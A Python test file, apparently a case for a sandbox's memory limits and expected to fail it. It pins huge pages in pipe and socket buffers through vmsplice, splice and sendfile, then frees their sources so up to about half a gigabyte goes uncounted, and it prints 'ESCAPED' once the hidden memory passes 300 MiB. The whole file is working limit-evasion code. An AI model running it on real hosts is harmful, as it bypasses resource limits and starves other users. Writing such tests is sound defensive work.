"""Leaves pages of files and of memory in pipes and sockets, and then drops whatever held them.

`vmsplice`, `splice` and `sendfile` put a page there, not its content: a whole huge page for one
byte, which is in no process and in no file any more. Bounded: 1/2 GiB.

Expect: not passed
"""

import ctypes
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
HUGE, CHUNK = 2 << 20, 8 << 20


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def from_memory(writer):
    start = libc.mmap(None, CHUNK + HUGE, 3, 0x22, -1, 0)
    first = -(-start // HUGE) * HUGE
    libc.madvise(ctypes.c_void_p(first), ctypes.c_size_t(CHUNK), 14)
    done = 0
    for page in range(first, first + CHUNK, HUGE):
        ctypes.memset(page, 1, 1)
        piece = Piece(page, 1)
        done += libc.vmsplice(writer, ctypes.byref(piece), ctypes.c_ulong(1), 2) == 1
    libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(CHUNK + HUGE))
    return done * HUGE


def from_file(writer, move):
    with open("recode-attack", "wb+") as file:
        file.write(bytes(1 << 18))
        file.flush()
        done = 0
        for offset in range(0, 1 << 18, 4096):
            if move(writer, file.fileno(), ctypes.byref(ctypes.c_longlong(offset))) != 1:
                break
            done += 4096
        file.truncate(0)
    return done


def sendfile(writer, source, offset):
    return libc.sendfile(writer, source, offset, ctypes.c_size_t(1))


def splice(writer, source, offset):
    return libc.splice(source, offset, writer, None, ctypes.c_size_t(1), 2)


def fill(move, make):
    """Use up to 22 pipes or sockets, since fresh pages take time; return what they hold."""
    total = 0
    for _ in range(22):
        kept.append(make())
        writer = kept[-1][1]
        writer = writer if isinstance(writer, int) else writer.fileno()
        os.set_blocking(writer, False)
        got = move(writer)
        total += got
        if not got:
            break
    return total


kept = []
held = fill(from_memory, os.pipe)


def answer(question):
    global held
    held += fill(from_memory, os.pipe)
    if not held:
        for move, make in ((splice, os.pipe), (sendfile, socket.socketpair)):
            held += fill(lambda writer, move=move: from_file(writer, move), make)
    if held > 300 << 20:
        print("ESCAPED: holds", held >> 20, "MiB that nobody counts", flush=True)
    time.sleep(60)
